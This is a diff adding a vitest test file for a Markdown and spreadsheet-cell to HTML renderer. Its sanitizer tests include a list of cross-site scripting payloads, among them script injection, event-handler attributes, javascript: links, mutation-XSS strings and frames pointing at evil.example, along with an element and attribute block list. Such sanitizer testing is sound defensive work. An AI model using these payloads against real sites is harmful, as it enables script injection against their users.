@@ -1,0 +1,220 @@
+import fc from 'fast-check';
+import { Parser } from 'htmlparser2';
+import { describe, expect, test } from 'vitest';
+import { isEmptyHtml, richFromCell, richFromMarkdown } from './rich-text.ts';
+
+const images = (src: string) => (src === 'media/a.svg' ? '/files/a.svg' : null);
+const md = (source: string) => richFromMarkdown(source, images).html;
+const cell = (source: string) => richFromCell(source, images).html;
+
+describe('Markdown', () => {
+  test.each([
+    ['plain', '两点之间线段最短。', '两点之间线段最短。'],
+    ['emphasis', '选出**错误**的一项', '选出<strong>错误</strong>的一项'],
+    ['emphasis that ends with a mark', '**重点：**内容', '<strong>重点：</strong>内容'],
+    ['emphasis around quotes', '他说**“你好”**了', '他说<strong>“你好”</strong>了'],
+    ['paragraphs', '甲\n\n乙', '<p>甲</p>\n<p>乙</p>'],
+    ['a line break between Chinese words', '甲方\n乙方', '甲方乙方'],
+    ['a line break between Latin words', 'left\nright', 'left\nright'],
+    ['inline formula', '若 $a<b$ 且 $x_1*x_2*3$', '若 \\(a&lt;b\\) 且 \\(x_1*x_2*3\\)'],
+    [
+      'display formula',
+      '$$\\begin{matrix} 1 & 2 \\\\ 3 & 4 \\end{matrix}$$',
+      '\\[\\begin{matrix} 1 &amp; 2 \\\\ 3 &amp; 4 \\end{matrix}\\]',
+    ],
+    ['formula with line space', '$$a \\\\[2pt] b$$', '\\[a \\\\[2pt] b\\]'],
+    ['round and square delimiters', '\\(x\\) 与 \\[y\\]', '\\(x\\) 与 \\[y\\]'],
+    ['an escaped dollar', '价格 \\$5 与 \\$6', '价格 $5 与 $6'],
+    ['prices are no formula', '价格为 $5，另一种 $6 一斤', '价格为 $5，另一种 $6 一斤'],
+    ['blanks at both edges', '$ x $', '\\(x\\)'],
+    ['a dollar in code', '写作 `$x$`', '写作 <code>$x$</code>'],
+    ['code keeps its tags as text', '`<b>`', '<code>&lt;b&gt;</code>'],
+    ['an unclosed dollar', '共 $100', '共 $100'],
+    ['picture', '![图](media/a.svg)', '<img src="/files/a.svg" alt="图" />'],
+    [
+      'link',
+      '[官网](https://example.com/?a=1&b=2)',
+      '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">官网</a>',
+    ],
+    ['HTML that is allowed', 'H<sub>2</sub>O', 'H<sub>2</sub>O'],
+    ['headings step down', '# 标题', '<h3>标题</h3>'],
+  ])('%s', (_, source, html) => {
+    expect(md(source)).toBe(html);
+  });
+
+  test('a table keeps the alignment of its columns, without a style', () => {
+    const html = md('| 甲 | 乙 |\n|---|--:|\n| $x|y$ | 2 |'.replace('$x|y$', '1'));
+    expect(html).toContain('<td align="right">2</td>');
+    expect(html).not.toContain('style');
+  });
+
+  test('names the pictures that are not there', () => {
+    expect(richFromMarkdown('![甲](media/b.svg)![乙](http://example.com/c.png)', images).missing).toEqual([
+      'media/b.svg',
+      'http://example.com/c.png',
+    ]);
+  });
+});
+
+describe('cells of a spreadsheet', () => {
+  test.each([
+    ['plain', '  两点之间线段最短。 ', '两点之间线段最短。'],
+    ['Markdown signs mean themselves', '1. *a* _b_ # 2*3*4', '1. *a* _b_ # 2*3*4'],
+    ['line breaks', '第一行\r\n第二行\n\n\n\n第三行', '第一行<br />第二行<br /><br />第三行'],
+    ['less than', '若a<b且b<c，则a<c', '若a&lt;b且b&lt;c，则a&lt;c'],
+    ['a comparison that looks like a tag', 'x<b and c>d', 'x&lt;b and c&gt;d'],
+    ['a comparison with a name of a tag', '若a<b>c成立', '若a&lt;b&gt;c成立'],
+    ['an include is no tag', '#include <stdio.h>', '#include &lt;stdio.h&gt;'],
+    ['ampersand', 'R&D 与 AT&T', 'R&amp;D 与 AT&amp;T'],
+    ['entities', '5&nbsp;&lt;&nbsp;6', '5\u00a0&lt;\u00a06'],
+    ['tags', '选出<b>错误</b>的<u>一项</u>', '选出<strong>错误</strong>的<u>一项</u>'],
+    ['paragraphs of a web editor', '<p>甲</p>\n<p>乙</p>', '<p>甲</p>\n<p>乙</p>'],
+    ['a paragraph alone', '<p style="color:red">甲</p>', '甲'],
+    ['break tags with line breaks', '甲<br>\n乙', '甲<br />乙'],
+    ['formula', '设 $x<1$，\n求 \\(y\\)', '设 \\(x&lt;1\\)，<br />求 \\(y\\)'],
+    ['formula between tags', '<b>$a<b$</b>', '<strong>\\(a&lt;b\\)</strong>'],
+    ['begins with an equals sign', '=1+1', '=1+1'],
+    ['begins with a minus', '-5', '-5'],
+    ['invisible signs', '\ufeff甲\u200b乙\u0007', '甲乙'],
+    ['quotes', '他说"好"', '他说"好"'],
+  ])('%s', (_, source, html) => {
+    expect(cell(source)).toBe(html);
+  });
+});
+
+const ATTACKS = [
+  '<script>alert(1)</script>甲',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>甲',
+  '<img src="media/a.svg" onerror="alert(1)">',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload="alert(1)"><script>1</script></svg>',
+  '<a href="JaVaScRiPt:alert(1)" onclick="alert(1)">链</a>',
+  '<a href="java&#10;script:alert(1)">链</a>',
+  '[链](javascript:alert(1)) [链](data:text/html,x)',
+  '<iframe src="https://evil.example"></iframe>',
+  '<form action="https://evil.example"><input></form>',
+  '<div style="position:fixed" class="modal" id="app">甲</div>',
+  '<style>*{display:none}</style><base href="//evil.example">',
+  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
+  '![<script>](media/b.svg "x")',
+  '<img alt="<script>alert(1)</script>" src="media/b.svg">',
+  '$<script>alert(1)</script>$ `$<img src=x onerror=alert(1)>$`',
+  '<b title="$" onclick="alert(1)">$</b>',
+  '<p $ onclick=alert(1) $>甲</p>',
+  '\uE0000\uE001 $x$ \uE0009\uE001',
+];
+
+/** What a browser would see: elements and attributes only. */
+function elementsOf(html: string) {
+  const seen: { name: string; attributes: Record<string, string> }[] = [];
+  const parser = new Parser({ onopentag: (name, attributes) => void seen.push({ name, attributes }) });
+  parser.end(html);
+  return seen;
+}
+
+function expectHarmless(html: string) {
+  for (const { name, attributes } of elementsOf(html)) {
+    expect([
+      'script',
+      'style',
+      'iframe',
+      'svg',
+      'math',
+      'form',
+      'input',
+      'base',
+      'object',
+      'embed',
+      'meta',
+      'link',
+    ]).not.toContain(name);
+    for (const [key, value] of Object.entries(attributes)) {
+      expect(key).toMatch(/^(href|rel|target|src|alt|width|height|colspan|rowspan|align|start|type)$/);
+      if (key === 'src') expect(value).toBe('/files/a.svg');
+      if (key === 'href') expect(value).toMatch(/^https?:\/\//i);
+    }
+  }
+  expect(html).not.toMatch(/[\uE000\uE001]/);
+}
+
+test.each(ATTACKS)('nothing runs or loads: %s', (source) => {
+  expectHarmless(md(source));
+  expectHarmless(cell(source));
+});
+
+test('nothing runs or loads, whatever pieces are put together', () => {
+  const piece = fc.constantFrom(
+    ...ATTACKS,
+    '$',
+    '\\(',
+    '\\)',
+    '`',
+    '"',
+    '>',
+    '<',
+    '\n\n',
+    '</b>',
+    '<!--',
+    '-->',
+    '甲',
+    '|',
+    '&lt;',
+    '\uE000',
+    '\uE001',
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
+      expectHarmless(md(pieces.join('')));
+      expectHarmless(cell(pieces.join('')));
+    }),
+    { numRuns: 300 },
+  );
+});
+
+test('a formula survives letter by letter', () => {
+  const tex = fc
+    .string({
+      unit: fc.constantFrom(
+        'a',
+        '<',
+        '>',
+        '&',
+        '_',
+        '*',
+        '"',
+        "'",
+        '{',
+        '}',
+        '^',
+        '\\\\',
+        '\\frac',
+        ' ',
+        '甲',
+        '#',
+        '|',
+        '~',
+      ),
+      minLength: 1,
+    })
+    .map((text) => `x${text}y`);
+  fc.assert(
+    fc.property(tex, (source) => {
+      const written = source.replace(
+        /[&<>"]/g,
+        (char) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[char] ?? '',
+      );
+      expect(md(`设 $${source}$ 时`)).toBe(`设 \\(${written}\\) 时`);
+      expect(cell(`设 $${source}$ 时`)).toBe(`设 \\(${written}\\) 时`);
+    }),
+  );
+});
+
+test.each([
+  ['', true],
+  ['<p> &nbsp;<br /></p>', true],
+  ['　', true],
+  ['<img src="/files/a.svg" alt="" />', false],
+  ['\\(x\\)', false],
+])('isEmptyHtml(%s)', (html, empty) => {
+  expect(isEmptyHtml(html)).toBe(empty);
+});
